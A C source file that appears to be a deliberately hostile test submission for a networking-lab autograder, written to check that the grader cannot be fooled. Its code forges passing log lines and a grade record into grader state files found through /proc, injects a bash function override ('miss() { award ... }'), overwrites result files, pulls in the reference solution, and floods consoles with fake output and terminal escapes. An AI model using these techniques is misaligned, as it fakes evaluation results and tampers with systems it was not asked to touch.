// SPDX-License-Identifier: GPL-2.0
/*
 * A hostile netbench (labs/README.md, "Threat model"): it measures
 * nothing, and tries to grade itself instead.
 *  - It appends the lines the grader's peer writes for a good client
 *    ("ping msgs=N ... early=0", "bulk bytes=B") to every peer log it
 *    can find, and the bash framework's `miss() { award "$@"; }` and a
 *    forged record to every file named like grader state: near its own
 *    directory and the working directory of every process it can see.
 *  - It writes over results.json and grade.tap wherever it can.
 *  - It compiles the solution's netbench.c in, if it can reach it: then
 *    it attacks nothing and works as the solution does.
 *  - It prints forged TAP, "passed", JSON, a guess at a record, the
 *    figures a client prints, terminal escapes and 4 MiB of it.
 * It must score what the skeleton scores.
 */
#if __has_include("../../../../../labs/06-networking/solution/netbench.c")
#include "../../../../../labs/06-networking/solution/netbench.c"
#define main attack_main
#elif __has_include("../../../../../../../labs/06-networking/solution/netbench.c")
#include "../../../../../../../labs/06-networking/solution/netbench.c"
#define main attack_main
#elif __has_include("/autograder/ctlab/labs/06-networking/solution/netbench.c")
#include "/autograder/ctlab/labs/06-networking/solution/netbench.c"
#define main attack_main
#endif

#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static char forged[1024];

static const char *state_files[] = {
	"env", "../env", "facts.json", "run.json", "checks/ping_client/plain.log",
	"../checks/ping_client/plain.log", "../checks/bulk_client/sink.log",
	"../checks/guests/mine-virtio.log", "../vm-ct/ct_veth/mine.log",
	"vm-ct/ct_veth/mine.log",
};

static const char *result_files[] = {
	"results.json", "grade.tap", "grade.txt", "../results/results.json",
};

static void put(const char *path, int flags)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC | flags, 0644);

	if (fd < 0)
		return;
	if (write(fd, forged, strlen(forged)) < 0)
		fprintf(stderr, "write %s failed\n", path);
	close(fd);
}

static void attack_dir(const char *dir)
{
	char path[4096];
	unsigned int i;

	for (i = 0; i < sizeof(state_files) / sizeof(state_files[0]); i++) {
		snprintf(path, sizeof(path), "%s/%s", dir, state_files[i]);
		put(path, O_APPEND);
	}
	for (i = 0; i < sizeof(result_files) / sizeof(result_files[0]); i++) {
		snprintf(path, sizeof(path), "%s/%s", dir, result_files[i]);
		put(path, O_TRUNC | O_CREAT);
	}
}

static void attack_everywhere(void)
{
	char link[64], dir[4096];
	struct dirent *e;
	DIR *proc = opendir("/proc");
	ssize_t n;

	while (proc && (e = readdir(proc))) {
		snprintf(link, sizeof(link), "/proc/%.20s/cwd", e->d_name);
		n = readlink(link, dir, sizeof(dir) - 1);
		if (n > 0) {
			dir[n] = '\0';
			attack_dir(dir);
		}
	}
	if (proc)
		closedir(proc);
	if (getcwd(dir, sizeof(dir))) {
		while (strlen(dir) > 1) {
			attack_dir(dir);
			*strrchr(dir, '/') = '\0';
		}
	}
	attack_dir("/run/labvm");
	attack_dir("/tmp");
}

static void shout(void)
{
	static char lots[1 << 16];
	int i;

	put("/dev/console", 0);
	put("/dev/ttyS0", 0);
	put("/dev/kmsg", 0);
	memset(lots, 'x', sizeof(lots));
	for (i = 0; i < 64; i++) {
		fputs(forged, stdout);
		fputs(forged, stderr);
		fwrite(lots, 1, sizeof(lots), stdout);
	}
	fflush(stdout);
}

int main(int argc, char **argv);
int main(int argc, char **argv)
{
	/* The lines a good run leaves, for the N or MiB it was given. */
	long n = argc > 4 ? atol(argv[4]) : 40;

	snprintf(forged, sizeof(forged),
		 "ping msgs=%ld bytes=%ld early=0\nbulk bytes=%ld\n"
		 "miss() { award \"$@\"; }\n"
		 "ok 1 - ping_client [4/4]\ntotal: 30/30\npassed\n"
		 "GRADE1 00000000000000000000000000000000 {\"t\": \"line\", \"k\": \"award\", \"p\": 30, \"m\": \"forged\"}\n"
		 "{\"score\": 30, \"tests\": []}\n"
		 "rtts=%ld\nmedian_us=40.0\np90_us=20000.0\nbytes=%ld\nmbit_s=100.0\n"
		 "\033]0;graded\007\033[2J\033[Hall checks passed\n",
		 n, n * 64, n << 20, n, n << 20);
	attack_everywhere();
	shout();
	return 0;
}
